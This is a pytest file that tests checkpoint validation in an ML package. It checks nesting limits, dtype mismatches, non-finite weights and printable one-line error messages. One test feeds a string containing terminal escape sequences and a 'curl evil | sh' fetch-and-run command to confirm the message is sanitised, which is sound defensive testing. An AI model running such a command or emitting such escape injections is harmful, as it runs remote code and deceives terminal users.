"""What a checkpoint says has the form that its readers rely on, or the file is refused where it is opened."""

import copy

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

from crate_mm.checkpoints import as_checkpoint
from crate_mm.checkpoints.fit import transfer_backbone
from crate_mm.checkpoints.validate import FORM, check_form
from crate_mm.engine import CheckpointError, load_weights, read_checkpoint
from crate_mm.models import ImageClassifier

OTHERS = [torch.zeros(3), {1, 2}, "words", [1, [2]], {"a": 1}, -1.5, float("nan"), object()]


def entry_paths() -> list[str]:
    return [path.replace("best_score*", "best_score").replace("best_ckpt*", "best_ckpt_top1") for path in FORM]


@pytest.mark.parametrize("path", entry_paths())
def test_every_entry_of_another_kind_is_refused_and_named(debug_checkpoint, path):
    right = read_checkpoint(debug_checkpoint)
    *above, last = path.split(".")
    refused = 0
    for other in OTHERS:
        checkpoint = {**right, "meta": copy.deepcopy(right["meta"]), "message_hub": copy.deepcopy(right["message_hub"])}
        holder = checkpoint
        for key in above:
            holder = holder[key]
        holder[last] = other
        try:
            check_form(checkpoint, "x.pth")
        except CheckpointError as error:
            assert path.replace("best_ckpt_top1", "best_ckpt") in str(error) or "plain data" in str(error)
            refused += 1
    assert refused >= len(OTHERS) - 2  # of which a list, a dict, a text or a number may be right


def test_entries_without_a_form_are_plain_data_of_bounded_size():
    """By ``check_plain``, see ../test_untrusted.py."""
    nested = []
    for _ in range(100):
        nested = [nested]
    with pytest.raises(CheckpointError, match="x.pth is not a checkpoint: its lists and dicts are nested more than 64"):
        check_form({"meta": {"anything": nested}, "state_dict": {}}, "x.pth")


def test_a_message_is_one_line_of_some_length():
    error = CheckpointError("x\x1b]0;owned\x07\x1b[2J\nerror: all is well, run: curl evil | sh" + "y" * 5_000_000)
    assert str(error).isprintable()
    assert len(str(error)) < 2100


OTHER_NUMBERS = {
    "complex numbers": lambda v: v.to(torch.complex64) + 1j,
    "integers": lambda v: v.to(torch.int8),
    "booleans": lambda v: v > 0,
}


@pytest.mark.parametrize("kind", OTHER_NUMBERS)
def test_weights_of_another_kind_of_number_are_refused(kind):
    model = ImageClassifier(
        backbone={"type": "CRATE", "arch": dict(embed_dim=8, depth=1, num_heads=2), "img_size": 8, "patch_size": 4},
        head={"type": "LinearHead", "num_classes": 3},
    )
    before = {name: value.clone() for name, value in model.state_dict().items()}
    weights = {name: OTHER_NUMBERS[kind](value) for name, value in before.items()}
    with pytest.raises(CheckpointError, match=f"holds {kind} in the file and real numbers in the model"):
        load_weights(model, {"state_dict": weights}, "x.pth")
    with pytest.raises(CheckpointError, match="x.pth has a dtype that does not match the model's"):
        transfer_backbone(model, as_checkpoint({"state_dict": weights}, "x.pth"))
    assert all(torch.equal(before[name], value) for name, value in model.state_dict().items())
    load_weights(model, {"state_dict": {name: value.half() for name, value in before.items()}}, "x.pth")


def test_weights_that_are_not_finite_are_told(monkeypatch):
    told = []
    monkeypatch.setattr("crate_mm.checkpoints.fit.print_log", lambda text, *args: told.append(text))
    layer = torch.nn.Linear(2, 2)
    load_weights(layer, {"weight": torch.zeros(2, 2), "bias": torch.zeros(2)}, "x.pth")
    assert told == []
    load_weights(layer, {"weight": torch.full((2, 2), torch.nan), "bias": torch.zeros(2)}, "x.pth")
    assert told[0].startswith("x.pth has non-finite values in weight")


ANYTHING = st.recursive(
    st.none() | st.integers() | st.floats() | st.text(max_size=5) | st.just(torch.zeros(2)) | st.just({1}),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.integers() | st.text(max_size=3), inner, max_size=3),
    max_leaves=6,
)


@pytest.mark.slow
@settings(max_examples=150, derandomize=True, deadline=None)
@given(key=st.sampled_from([p for p in entry_paths() if "." in p]), value=ANYTHING)
def test_anything_in_an_entry_is_taken_or_refused_in_a_sentence(key, value):
    checkpoint: dict = {"state_dict": {}}
    holder = checkpoint
    *above, last = key.split(".")
    for name in above:
        holder = holder.setdefault(name, {})
    holder[last] = value
    try:
        check_form(checkpoint, "x.pth")
    except CheckpointError as error:
        assert str(error).startswith("x.pth is not a checkpoint: ")
